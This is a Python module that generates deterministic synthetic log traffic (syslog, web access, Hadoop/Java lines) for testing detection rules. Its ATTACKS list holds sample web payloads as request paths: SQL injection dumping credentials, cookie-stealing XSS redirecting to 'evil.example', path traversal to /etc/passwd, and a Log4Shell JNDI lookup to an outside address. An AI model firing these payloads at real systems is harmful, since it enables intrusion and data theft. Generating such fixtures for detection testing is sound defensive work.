"""Realistic mixed log traffic, deterministic for a seed, and a source that paces it.

The mix imitates what a small server fleet writes: mostly benign syslog, web access and
Hadoop/Java application lines, with a small share of what the detection rules look for
(sshd brute force, sudo/PAM failures, web attacks and scanners, OOM kills, segfaults,
Java exceptions with their stack traces). Formats follow the real logs in the corpus.
"""

from __future__ import annotations

import asyncio
import contextlib
import math
import random
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from itertools import accumulate, islice

from agents.block import Block, Sink

SOURCE_NAME = "generator"
START = 1_709_251_200.0  # 2024-03-01T00:00:00Z: fixed, so a seed always gives the same lines
TICK = 0.02
"""Seconds between paced blocks: large enough to batch lines, small enough to look smooth."""
MAX_BLOCK = 5000

HOSTS = ["web01", "web02", "db01", "auth01", "hadoop-nn1", "hadoop-dn3"]
USERS = ["root", "admin", "oracle", "test", "ubuntu", "git", "postgres", "deploy", "guest"]
STAFF = ["alice", "bob", "carol", "dave"]
PAGES = ["/", "/index.html", "/about", "/products?id=42", "/static/app.js", "/static/site.css",
         "/images/logo.png", "/api/v1/orders", "/login", "/search?q=shoes", "/favicon.ico"]
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "python-requests/2.31.0",
]
ATTACKS = [
    "/products.php?id=1%20union%20select%20username,password%20from%20users--",
    "/item?id=-1' UNION SELECT 1,2,group_concat(table_name) FROM information_schema.tables--",
    "/search?q=<script>alert(document.cookie)</script>",
    "/comment?text=%3Cscript%3Edocument.location='http://evil.example/'%3C/script%3E",
    "/download?file=../../../../etc/passwd",
    "/static/..%2f..%2f..%2fetc/passwd",
    "/api/login?user=${jndi:ldap://198.51.100.7:1389/Exploit}",
]
SCANNERS = ["sqlmap/1.7.2#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)", "Mozilla/5.0 zgrab/0.x",
            "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"]
JAVA_CLASSES = ["org.apache.hadoop.hdfs.server.datanode.DataNode",
                "org.apache.hadoop.mapreduce.v2.app.MRAppMaster", "org.apache.hadoop.ipc.Client",
                "org.apache.hadoop.yarn.server.nodemanager.NodeManager"]
EXCEPTIONS = [
    ("java.net.ConnectException", "Connection refused"),
    ("java.io.IOException", "Broken pipe"),
    ("java.lang.NullPointerException", "null"),
    ("java.lang.OutOfMemoryError", "Java heap space"),
    ("java.net.SocketTimeoutException", "60000 millis timeout while waiting for channel"),
]
FRAMES = ["org.apache.hadoop.ipc.Client$Connection.setupIOstreams(Client.java:705)",
          "org.apache.hadoop.ipc.Client.call(Client.java:1451)",
          "org.apache.hadoop.hdfs.DFSOutputStream$DataStreamer.run(DFSOutputStream.java:589)",
          "java.base/java.lang.Thread.run(Thread.java:829)"]


class _Clock:
    """Simulated time, advanced a little per event, formatted the ways logs write it.

    The formatted stamps are cached per simulated second: formatting dates dominates
    otherwise.
    """

    def __init__(self, rng: random.Random) -> None:
        self._rng = rng
        self.now = START
        self._second = -1
        self.tick()

    def tick(self) -> None:
        self.now += self._rng.expovariate(200.0)  # ~200 events per simulated second
        if int(self.now) != self._second:
            self._second = int(self.now)
            dt = datetime.fromtimestamp(self._second, UTC)
            self._syslog = f"{dt:%b} {dt.day:2d} {dt:%H:%M:%S}"
            self._apache = f"{dt:%d/%b/%Y:%H:%M:%S} +0000"
            self._java = f"{dt:%Y-%m-%d %H:%M:%S}"

    def syslog(self) -> str:
        return self._syslog

    def apache(self) -> str:
        return self._apache

    def java(self) -> str:
        return f"{self._java},{int(self.now * 1000) % 1000:03d}"


def _n(rng: random.Random, lo: int, hi: int) -> int:
    """A uniform integer in ``[lo, hi]``; much cheaper than ``randint``."""
    return lo + int(rng.random() * (hi - lo + 1))


def _ip(rng: random.Random) -> str:
    r = rng.getrandbits(32)
    return f"{(r >> 24) % 223 + 1}.{(r >> 16) & 255}.{(r >> 8) & 255}.{(r & 255) % 254 + 1}"


def _pid(rng: random.Random) -> int:
    return _n(rng, 300, 32000)


Template = Callable[[random.Random, _Clock], list[str]]


def _syslog_benign(rng: random.Random, c: _Clock) -> list[str]:
    head = f"{c.syslog()} {rng.choice(HOSTS)}"
    roll = rng.random()
    if roll < 0.3:
        return [f"{head} CRON[{_pid(rng)}]: (root) CMD (run-parts /etc/cron.hourly)"]
    if roll < 0.55:
        return [f"{head} systemd[1]: Started Session {_n(rng, 1, 9999)} of user "
                f"{rng.choice(STAFF)}."]
    if roll < 0.8:
        return [f"{head} sshd[{_pid(rng)}]: pam_unix(sshd:session): session closed for user "
                f"{rng.choice(STAFF)}"]
    if roll < 0.9:
        return [f"{head} dhclient[{_pid(rng)}]: bound to 10.0.{_n(rng, 0, 9)}.{_n(rng, 2, 250)}"
                f" -- renewal in {_n(rng, 600, 3600)} seconds."]
    return [f"{head} ntpd[{_pid(rng)}]: adjusting local clock by {rng.random() - 0.5:.6f}s"]


def _sshd(rng: random.Random, c: _Clock) -> list[str]:
    head = f"{c.syslog()} {rng.choice(HOSTS)} sshd[{_pid(rng)}]:"
    ip, port = _ip(rng), _n(rng, 1024, 65535)
    roll = rng.random()
    if roll < 0.3:
        return [f"{head} Accepted publickey for {rng.choice(STAFF)} from 10.0.0.{_n(rng, 2, 99)}"
                f" port {port} ssh2: RSA SHA256:{rng.getrandbits(128):032x}"]
    if roll < 0.6:
        user = rng.choice(USERS)
        return [f"{head} Invalid user {user} from {ip} port {port}",
                f"{head} Failed password for invalid user {user} from {ip} port {port} ssh2"]
    return [f"{head} Failed password for {rng.choice(USERS)} from {ip} port {port} ssh2"]


def _ssh_burst(rng: random.Random, c: _Clock) -> list[str]:
    """A password-guessing run from one address: what sshd-brute-force's threshold is for."""
    host, ip = rng.choice(HOSTS), _ip(rng)
    return [f"{c.syslog()} {host} sshd[{_pid(rng)}]: Failed password for {rng.choice(USERS)} "
            f"from {ip} port {_n(rng, 1024, 65535)} ssh2" for _ in range(_n(rng, 6, 12))]


def _sudo(rng: random.Random, c: _Clock) -> list[str]:
    host, user = rng.choice(HOSTS), rng.choice([*STAFF, "www-data"])
    if rng.random() < 0.5:
        return [f"{c.syslog()} {host} sudo: {user} : TTY=pts/{_n(rng, 0, 5)} ; PWD=/home/{user}"
                f" ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"]
    return [
        f"{c.syslog()} {host} sudo: pam_unix(sudo:auth): authentication failure; logname={user} "
        f"uid={_n(rng, 1000, 1010)} euid=0 tty=/dev/pts/{_n(rng, 0, 5)} ruser={user} "
        f"rhost=  user={user}",
        f"{c.syslog()} {host} sudo: {user} : 3 incorrect password attempts ; TTY=pts/0 ; "
        f"PWD=/home/{user} ; USER=root ; COMMAND=/bin/bash",
    ]


def _access(rng: random.Random, c: _Clock, path: str, agent: str, status: int) -> str:
    method = "POST" if path.startswith(("/login", "/api/v1/orders")) else "GET"
    size = _n(rng, 200, 40000) if status == 200 else _n(rng, 150, 600)
    return (f'{_ip(rng)} - - [{c.apache()}] "{method} {path} HTTP/1.1" {status} {size} '
            f'"-" "{agent}"')


def _web_benign(rng: random.Random, c: _Clock) -> list[str]:
    status = rng.choices([200, 304, 404, 301], [85, 8, 5, 2])[0]
    return [_access(rng, c, rng.choice(PAGES), rng.choice(BROWSERS), status)]


def _web_attack(rng: random.Random, c: _Clock) -> list[str]:
    if rng.random() < 0.3:
        path, agent = rng.choice([*PAGES, "/wp-login.php", "/.env"]), rng.choice(SCANNERS)
    else:
        path, agent = rng.choice(ATTACKS), rng.choice(BROWSERS + SCANNERS)
    return [_access(rng, c, path, agent, rng.choice([400, 403, 404, 500]))]


def _kernel(rng: random.Random, c: _Clock) -> list[str]:
    head = f"{c.syslog()} {rng.choice(HOSTS)} kernel: [{1e3 + rng.random() * 9e5:.6f}]"
    pid, prog = _pid(rng), rng.choice(["java", "mysqld", "python3", "node"])
    if rng.random() < 0.5:
        return [f"{head} Out of memory: Killed process {pid} ({prog}) total-vm:{_n(rng, 2, 9)}"
                f"048576kB, anon-rss:{_n(rng, 1, 4)}012345kB, file-rss:0kB, shmem-rss:0kB"]
    return [f"{head} {prog}[{pid}]: segfault at {rng.getrandbits(32):x} ip "
            f"{rng.getrandbits(48):012x} sp {rng.getrandbits(48):012x} error 4 in "
            f"libc.so.6[7f3a1c000000+195000]"]


def _java_info(rng: random.Random, c: _Clock) -> list[str]:
    head = f"{c.java()} INFO [main] {rng.choice(JAVA_CLASSES)}:"
    roll = rng.random()
    if roll < 0.5:
        return [f"{head} Receiving block blk_{rng.getrandbits(60)} src: /10.0.1.{_n(rng, 2, 99)}"]
    if roll < 0.8:
        return [f"{head} Progress of TaskAttempt attempt_{rng.getrandbits(40)}_0001_m_000001_0"
                f" is : {rng.random():.4f}"]
    return [f"{head} Heartbeat from node manager received"]


def _java_error(rng: random.Random, c: _Clock) -> list[str]:
    exc, text = rng.choice(EXCEPTIONS)
    frames = FRAMES[: _n(rng, 2, len(FRAMES))]
    return [f"{c.java()} ERROR [IPC Server handler {_n(rng, 0, 9)}] {rng.choice(JAVA_CLASSES)}"
            f": Unexpected failure", f"{exc}: {text}", *(f"\tat {f}" for f in frames)]


MIX: list[tuple[Template, float]] = [
    (_syslog_benign, 22.0), (_web_benign, 38.0), (_java_info, 22.0), (_sshd, 8.0),
    (_sudo, 3.0), (_web_attack, 3.0), (_kernel, 2.0), (_java_error, 2.0), (_ssh_burst, 0.1),
]


def iter_lines(seed: int | None = 0) -> Iterator[str]:
    """An endless stream of log lines; the same seed always yields the same stream."""
    rng = random.Random(seed)
    clock = _Clock(rng)
    kinds = [t for t, _ in MIX]
    weights = list(accumulate(w for _, w in MIX))
    while True:
        for kind in rng.choices(kinds, cum_weights=weights, k=512):
            clock.tick()
            yield from kind(rng, clock)


def generate_lines(count: int, seed: int | None = 0) -> list[str]:
    """``count`` lines of mixed realistic traffic, deterministic for a given ``seed``."""
    return list(islice(iter_lines(seed), count))


class GeneratorSource:
    """Generated lines at ``rate`` lines/s (unpaced if not positive), ``count`` at most."""

    def __init__(self, rate: float | None, count: int | None = None,
                 seed: int | None = None) -> None:
        self.rate = rate if rate and math.isfinite(rate) and rate > 0 else None
        self.count = count
        self.finite = count is not None
        self._seed = seed
        self._stopped = asyncio.Event()

    def stop(self) -> None:
        self._stopped.set()

    async def run(self, sink: Sink) -> None:
        lines = iter_lines(self._seed)
        clock = asyncio.get_running_loop().time
        start, sent = clock(), 0
        while not self._stopped.is_set() and (self.count is None or sent < self.count):
            n = self._due(clock() - start, sent)
            if n <= 0:
                await self._sleep(TICK)
                continue
            await sink(Block(SOURCE_NAME, time.time(), list(islice(lines, n))))
            sent += n
            if self.rate is None:
                await asyncio.sleep(0)  # unpaced: still let the shipper run

    def _due(self, elapsed: float, sent: int) -> int:
        """How many lines the schedule allows now (capped per block and by ``count``)."""
        target = MAX_BLOCK if self.rate is None else int(elapsed * self.rate) + 1 - sent
        if self.count is not None:
            target = min(target, self.count - sent)
        return min(target, MAX_BLOCK)

    async def _sleep(self, seconds: float) -> None:
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(self._stopped.wait(), seconds)
